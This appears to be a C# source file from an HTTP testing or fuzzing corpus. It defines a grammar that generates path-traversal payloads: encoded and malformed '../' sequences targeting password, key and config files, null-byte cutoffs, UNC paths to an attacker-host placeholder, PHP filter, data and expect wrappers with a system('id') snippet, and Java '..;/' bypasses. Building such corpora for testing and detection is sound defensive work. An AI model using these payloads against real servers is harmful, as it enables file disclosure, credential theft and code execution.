namespace Weir.Http.Corpus.Attacks;

/// <summary>Paths that leave their folder, in many encodings and many damaged ones, absolute paths to files that matter, and stream wrappers.</summary>
internal static class Traversal
{
    public const string Text = """"
        §attack
        8× «plainup»
        5× «encodedup»
        6× «damaged»
        3× «mixedup»
        4× «absolute»
        3× «wrapper»
        2× «windows»
        2× «javaup»
        2× «parameter»
        2× «unc»
        «context»

        ¶ ---- ../ in plain ----
        §plainup
        6× «up*1-10»«unixrel»
        4× «lead»«up*1-10»«unixrel»
        3× «up*2-12»«unixrel»«cut»
        2× «lead»«up*2-9»«unixrel»«cut»
        3× «trick*2-10»«unixrel»
        2× «lead»«trick*2-8»«unixrel»«cut?30»
        ../«up*1-8»«word»«¦.«ext»»
        «up*3-12»
        «trick*2-9»«{FILE}¦{file}»
        «lead»«again2*2-9»{FILE}
        «lead»«up*2-10»«winrel»
        §again2
        «../¦..\¦..../¦.../¦..%2f¦%2e%2e/¦%2e%2e%2f¦..%5c¦0x2e0x2e/¦..%c0%af»
        §up
        ../
        §trick
        3× ....//
        2× ..//
        2× .../
        ..././
        ./../
        ....\/
        ..;/
        .//..//
        ..\/
        ../\
        ..../
        ./.././
        ..\../
        ..../\
        ...//
        ../.../
        /..
        «¦/».?/
        .+./
        . ./
        .%2e/
        ‥/
        ．．／
        ．．/
        ..／
        ..∕
        ..∖
        ..¯
        ../../
        §lead
        4× /
        2× ./
        2× «word»/
        2× /«word»/
        //
        \
        «word».«ext»/
        /var/www/«html/¦»«images/¦»
        /«static¦assets¦images¦public¦files¦uploads¦download¦css¦js¦media¦themes¦icons¦resources¦cgi-bin¦theme/META-INF¦plugins¦content»/
        file:
        «word».«ext»
        |
        "
        '
        .
        /.
        /%5c
        «rand»/
        /usr/local/«word»/
        C:/«word»/
        §ext
        «jpg¦png¦gif¦html¦txt¦pdf¦php¦css¦js¦xml¦json¦jsp¦asp¦ico»
        §cut
        4× %00
        2× ␀
        2× %00.«ext»
        ?
        %3f
        #
        %23
        /.
        ␀.«ext»
        .«ext»
        %2500
        %2500.«ext»
        %00«ext»
        ::$DATA
        %20
        ;«ext»
        &=%3C%3C%3C%3C
        %0a
        %0d%0a
        /./
        \0
        .
        ;.«ext»
        %u0000
        /////////////////
        «dots»
        «letter*3-30»
        §dots
        /././././././.
        ....................
        \.\.\.\.\.
        §unixrel
        12× «unixfile→norootslash»
        2× «unixfile»
        «unixfile→globbed»
        etc/«passwd¦shadow¦hosts¦group»
        «{FILE}¦{file}»
        WEB-INF/«web.xml¦classes/application.properties¦applicationContext.xml¦struts-config.xml¦classes/«word».class»
        «.env¦.git/config¦.htaccess¦.htpasswd¦config.php¦wp-config.php¦config/database.yml¦package.json¦composer.json¦settings.py¦appsettings.json¦web.config¦application.yml¦app.py¦Dockerfile¦config/secrets.yml¦.ssh/id_rsa»
        §winrel
        5× windows/win.ini
        3× «boot.ini¦winnt/win.ini¦windows/system32/drivers/etc/hosts¦windows/system.ini¦Windows/System32/config/SAM¦windows/system32/cmd.exe¦inetpub/wwwroot/web.config¦autoexec.bat¦WINNT/repair/sam._¦windows/php.ini¦xampp/apache/logs/access.log»
        winnt/system32/cmd.exe?/c+dir«¦+c:\»

        ¶ ---- encoded ../ ----
        §encodedup
        9× «lead?40»«$u:encup»«again*0-9»«encrel»«cut?25»
        3× «same»
        2× «plainup→url»
        «plainup→urltwice»
        «plainup→urlall»
        «plainup→urlsome»
        §again
        «$u»
        §same
        «sameof_a»«unixrel»
        «sameof_b»«unixrel»«cut?»
        «lead»«sameof_a»«unixrel»
        «lead»«sameof_b»«winrel»
        «sameof_a»«unixrel→url»
        «sameof_b»«unixrel→url»
        «sameof_c»«winrel→backslash»
        §sameof_a
        «updots_a*2-9»
        §sameof_b
        «updots_b*2-9»
        §sameof_c
        «updots_c*2-9»
        §updots_a
        ..%2f
        §updots_b
        %2e%2e/
        §updots_c
        ..%5c
        ¶ Any spelling of the dots beside any spelling of the slash, and the same slash within the file: overlong, invalid, split and doubled escapes.
        §damaged
        6× «lead?30»«$d:dotpair»«$s:slashenc»«dsagain*0-8»«dstarget»«cut?10»
        2× «lead?30»«$d:dotpair»«$s:slashenc»«dsagain*1-8»«unixrel»
        «lead?30»«$d:dotpair»«$s:slashenc»«dsagain*1-7»«winrel→backslash»
        «$s:slashenc»«$d:dotpair»«$s»«dsagain*1-7»«dstarget»
        §dsagain
        «$d»«$s»
        §dstarget
        3× etc«$s»passwd
        2× etc«$s»«issue¦hosts¦shadow¦group¦hostname¦motd»
        3× boot.ini
        2× windows«$s»win.ini
        2× windows«$s»system32«$s»drivers«$s»etc«$s»hosts
        winnt«$s»«win.ini¦system32«$s»cmd.exe»
        windows«$s»system.ini
        proc«$s»self«$s»environ
        var«$s»log«$s»«apache2«$s»access.log¦httpd«$s»error.log¦syslog»
        «word».«ext»
        «word»«$s»«word».«ext»
        «{FILE}¦{file}»
        §dotpair
        4× «$o:dotenc»«$o»
        3× ..
        2× «oddpair»
        «dotenc»«dotenc»
        §oddpair
        «.?¦?.¦??¦...¦....¦.%00.¦.%00¦%00.¦..%00¦..%01¦..%20¦. .¦.. ¦.␀.¦.%20.¦.%0a.¦.+.¦._.¦0x2e0x2e¦.0x2e¦0x2e.¦2e2e¦..;¦.\.¦.%5c.¦.%e2%80%ae.»
        §dotenc
        4× %2e
        3× %252e
        3× %c0%ae
        2× %c0%2e
        2× %c0%«hexdigit»e
        2× %c0.
        2× %%32%65
        2× %uff0e
        2× %u002e
        %e0%80%ae
        %e0%40%ae
        %f0%80%80%ae
        %f8%80%80%80%ae
        %fc%80%80%80%80%ae
        %25c0%25ae
        %%c0%6e
        %c0%6e
        %c0%5e
        %2%e
        %32%65
        %2E
        %u2024
        %ef%bc%8e
        %«hexdigit»«letter»%«hexdigit»e
        §slashenc
        4× %2f
        4× %5c
        3× %252f
        3× %255c
        3× %c0%af
        2× %c1%9c
        2× 0x2f
        2× 0x5c
        2× %%32%66
        2× %%35%63
        2× %u2215
        2× %u2216
        2× %25c0%25af
        2× %25c1%259c
        2× %c0%2f
        2× %c0%5c
        2× %c0%9v
        2× %c0%qf
        2× %c1%8s
        2× %c1%pc
        2× %c1%1c
        2× %c1%af
        2× %bg%qf
        2× %2%f
        2× %5%c
        2× %uEFC8
        2× %uF025
        %e0%80%af
        %f0%80%80%af
        %f8%80%80%80%af
        %fc%80%80%80%80%af
        %c0%«hexdigit»«letter»
        %c1%«hexdigit»«letter»
        %«letter»«letter»%«letter»f
        %2F%2f
        2f
        5c
        %32%66
        %ef%bc%8f
        %e2%88%95
        /
        \
        //
        \
        /\
        \/
        ／
        ∕
        o
        §encup
        5× ..%2f
        4× %2e%2e%2f
        3× %2e%2e/
        3× ..%252f
        2× %252e%252e%252f
        2× ..%5c
        2× %2e%2e%5c
        2× ..%255c
        2× %252e%252e%255c
        2× ..%c0%af
        2× %c0%ae%c0%ae/
        «overdots»«overslash»
        .«¦.»%2f
        «..¦%2e%2e¦%2E%2E»«%2f¦%2F¦%5c¦%5C»
        %25«2e%252e%252f¦32%65%25%32%65%25%32%66»
        %%32%65%%32%65%%32%66
        %%32%65%%32%65/
        ..%%32%66
        ..%%35%63
        ..%%35c
        ..%25%35%63
        ..%u2215
        ..%u2216
        %u002e%u002e%u002f
        %uff0e%uff0e%u2215
        %uff0e%uff0e/
        ..%u002f
        ..0x2f
        0x2e0x2e0x2f
        0x2e0x2e/
        0x2e0x2e\
        ..%e0%80%af
        ..%f0%80%80%af
        ..%bg%qf
        ..%c1%9c
        ..%c1%pc
        ..%c0%9v
        ..%c0%qf
        ..%c1%8s
        ..%c1%1c
        ..%c1%af
        ..%c0%2f
        ..%c0%5c
        %c0%2e%c0%2e%c0%2f
        %uF025
        ..%fc%80%80%80%80%af
        ..%f8%80%80%80%af
        ..%00/
        ..%00%2f
        ..%0d/
        ..%0a/
        ..%09/
        ..%ff/
        ..%01/
        ..%20/
        %20../
        %2e%2e;/
        ..%3b/
        %2e./
        .%2e/
        .%252e/
        %2e%2e%u2216
        ..&#47;
        &#46;&#46;&#47;
        \u002e\u002e\u002f
        \x2e\x2e\x2f
        \x2e\x2e/
        \56\56\57
        ..%ef%bc%8f
        %ef%bc%8e%ef%bc%8e%ef%bc%8f
        ..%c0%af..%c0%af
        %5c..
        %2f..
        /%2e%2e
        /%252e%252e
        %2f%2e%2e
        ....%2f%2f
        %2e%2e%2e%2e%2f%2f
        %2e%2e%2e%2e//
        ....%5c%2f
        %c0%ae./
        .%c0%ae/
        %25c0%25ae%25c0%25ae%25c0%25af
        ..%25c0%25af
        ..%25c1%259c
        §overdots
        %c0%ae%c0%ae
        %e0%80%ae%e0%80%ae
        %f0%80%80%ae%f0%80%80%ae
        %fc%80%80%80%80%ae%fc%80%80%80%80%ae
        %uff0e%uff0e
        %c0%«5e¦ee¦fe¦2e»%c0%«5e¦ee¦fe¦2e»
        %c0.%c0.
        ..
        .%c0%ae
        §overslash
        %c0%af
        %e0%80%af
        %f0%80%80%af
        %c1%9c
        %c0%«2f¦5c¦6f¦9v¦qf»
        %e0%81%9c
        %f0%80%81%9c
        %u2215
        %fc%80%80%80%80%af
        /
        \
        §encrel
        6× «unixrel»
        3× «unixrel→url»
        2× «unixrel→urltwice»
        «winrel→url»
        «winrel»
        etc%c0%afpasswd
        etc%252fpasswd
        etc0x2fpasswd
        §mixedup
        3× «lead?40»«upany*2-8»«unixrel»«cut?25»
        2× «lead?40»«upany*2-8»«unixrel→url»
        «lead»«word»/«upany*2-6»«unixrel»
        «word»/«up*1-4»«word»/«up*2-8»«unixrel»
        /«word»/«up»«word»/«up»«word»/«up*2-7»«unixrel»
        «up*1-3»«rand»/«up*3-9»«unixrel»
        /.../.../.../«unixrel»
        «letter*20-60»/«up*2-9»«unixrel»
        §upany
        4× ../
        2× ..%2f
        2× «encup»
        «trick»
        ..\

        ¶ ---- absolute paths ----
        §absolute
        6× «unixfile»
        2× «unixfile»«cut»
        2× «winfile»
        2× «winfile→slashed2»
        «winfile»«cut»
        «unixfile→url»
        «unixfile→urltwice»
        /«unixfile»
        /.«unixfile»
        «unixfile→slashruns»
        "«unixfile»"
        \«unixfile→backslash»
        file:«¦/¦//¦///»«unixfile»
        §windows
        5× «wup*1-9»«winrel→backslash»
        2× «wlead»«wup*1-9»«winrel→backslash»
        2× «wup*2-9»«winrel→backslash»«cut»
        «wup*2-9»«unixrel→backslash»
        «lead»«wup*2-9»«unixrel→backslash»«cut?»
        «wtrick*2-8»«winrel→backslash»
        «wup*2-8»«winrel»
        «wup*3-10»
        §wup
        ..\
        §wlead
        \
        /
        .\
        «word»\
        C:\«word»\
        §wtrick
        2× ....\\
        ..\\
        ..\/
        .\..\
        ...\
        ..\.\
        %2e%2e\
        .%5c..
        ..\..\
        \\..\
        §unc
        \\«evilhost»\«rand»\«rand».«ext»
        \\localhost\c$\«winrel→backslash»
        \\«ip»\«c$¦admin$¦share»\«winrel→backslash»
        //«evilhost»/«rand»/«rand».«ext»
        \\.\«GLOBALROOT\Device\HarddiskVolumeShadowCopy1\windows\system32\config\sam¦c:\boot.ini¦PhysicalDrive0»
        \\?\«winfile»
        \\127.0.0.1\«c$¦admin$»\windows\win.ini
        %5c%5c«evilhost»%5c«rand»
        /..\..\..\«winrel→backslash»
        «winfile»::$DATA
        «con¦nul¦aux¦prn¦com1¦lpt1»«/../¦\..\»«winrel»
        ..\..\..\«nul¦con¦aux».«ext»

        ¶ ---- stream wrappers ----
        §wrapper
        5× php://filter/«¦read=»«chain»/resource=«resfile»
        2× «phplit→case»://filter/«chain»/resource=«resfile»
        php://filter/«chain»|«chain»|«chain»/resource=«resfile»
        php://filter/convert.iconv.«utf-8.utf-16¦UTF8.CSISO2022KR¦UTF-8/UTF-7¦L1.UCS-4»«filters*1-6»/resource=«resfile»
        php://filter/zlib.«deflate¦inflate»/«chain»/resource=«resfile»
        php://«input¦stdin¦fd/«#0-9»¦memory¦output¦temp»
        zip://«word».«zip¦jpg»%23«word»«¦.php»
        phar://«¦./»«word».«phar¦jpg¦zip»/«word»«¦.php»
        data:«¦//»text/plain«¦;base64»,«<?php system('id');?>¦PD9waHAg«rand→b64»¦«rand→b64»»
        data:;base64,PD9waHAg«rand→b64»
        expect://«shellcmd»
        «glob¦compress.zlib¦compress.bzip2¦ogg¦rar¦ssh2.sftp://user:pass@«ip»»://«unixfile»
        file://«¦localhost»«unixfile»
        classpath:«application.properties¦application.yml¦../«word».xml»
        jar:file:«unixfile»!/«word»
        «netdoc¦vfs¦res¦resource¦bundle¦view-source:file»://«unixfile»
        §phplit
        php
        §chain
        5× convert.base64-encode
        2× string.rot13
        «string.toupper¦string.tolower¦string.strip_tags¦convert.base64-decode¦convert.quoted-printable-encode¦zlib.deflate¦bzip2.compress¦convert.iconv.UTF-8.UTF-16LE¦mcrypt.tripledes»
        string.rot13/convert.base64-encode
        §filters
        |convert.«iconv.«UTF8.UTF16LE¦CP866.CSUNICODE¦UTF16.EUCTW¦L1.T.618BIT¦ISO2022KR.UTF16¦INIS.UTF16¦R9.ISO6937¦UTF8.UTF7¦UTF16LE.UTF-16BE¦CSIBM1133.IBM943¦GBK.BIG5»¦base64-decode¦base64-encode»
        §resfile
        3× index«¦.php»
        2× «unixfile»
        2× «config¦wp-config¦admin¦login¦db¦settings¦functions¦flag».php
        «up*1-5»«word».php
        «up*1-6»«unixrel»
        http://«evilhost»/«rand»
        data:,«rand»

        ¶ ---- application servers, proxies and archives ----
        §javaup
        3× /«word»/..;/«word»
        3× «jup*1-5»«WEB-INF/web.xml¦META-INF/MANIFEST.MF¦manager/html¦WEB-INF/classes/«word».properties¦admin/«word»¦host-manager/html»
        /«word»/«jup*1-4»«unixrel»
        /%2e/WEB-INF/web.xml
        /.//WEB-INF/web.xml
        /%252e%252e/WEB-INF/web.xml
        «.¦/./¦/%2e/¦//¦/%5c¦/%u002e/»WEB-INF/web.xml
        /«static¦assets¦img¦files»../««word»¦.git/config¦.env»
        /«static¦assets¦img¦files»../«up*0-4»«unixrel»
        /cgi-bin/«encup*2-6»bin/sh
        /icons/«encup*3-8»«unixrel»
        /@fs/«unixrel»?«raw??¦import&raw??¦url»
        /_next/«up*3-8»«unixrel»
        /«word»/%5c../«unixrel»
        /«word»//«up*2-6»«unixrel»
        /«plugins/«word»¦public/plugins/«alertlist¦graph¦mysql¦text¦table»»/«up*4-12»«unixrel»
        /«api/v«#1-3»¦«word»»/..%2f..%2f«word»
        /..;/«manager/html¦admin¦actuator/env¦«word»»
        /;/«admin¦WEB-INF/web.xml¦«word»»
        /«word»;/../«admin¦WEB-INF/web.xml»
        «up*2-9»tmp/«rand».«php¦jsp¦sh»
        «up*1-8»«word».«php¦jsp¦aspx¦war»
        «up*1-6»«.ssh/authorized_keys¦webapps/ROOT/«rand».jsp¦etc/cron.d/«rand»¦var/www/html/«rand».php¦inetpub/wwwroot/«rand».aspx»
        §jup
        3× ..;/
        2× %2e%2e;/
        ..%3b/
        ..;«word»/
        /;/..
        ..;a=b/

        §parameter
        8× «param»=«corepath»
        2× ?«param»=«corepath»
        /«word».«php¦jsp¦asp¦cgi¦pl¦aspx¦do»?«param»=«corepath»
        /«download¦view¦file¦static¦image¦api/files¦export»«?«param»=¦/»«corepath»
        «param»=«corepath»&«param»=«word»
        «word».«php¦cgi¦jsp»?«param»=«corepath»
        §corepath
        4× «plainup»
        2× «encodedup»
        2× «absolute»
        «wrapper»
        «windows»
        §context
        {"«param»":"«corepath→json»"}
        filename="«corepath»"
        Content-Disposition: form-data; name="«word»"; filename="«plainup»"
        <«word»>«corepath»</«word»>
        "«plainup»"
        [«plainup»]
        \include{«unixfile»}
        \input{«unixfile»}
        {{include '«unixfile»'}}
        «include¦require¦file_get_contents¦readfile¦fopen¦show_source¦LOAD_FILE»('«corepath»')
        ../«up*2-6»«unixrel»&«param»=«word»
        «plainup»/«word»
        «plainup»|«word»
        «plainup»;«word»
        «plainup→b64»
        """";
}
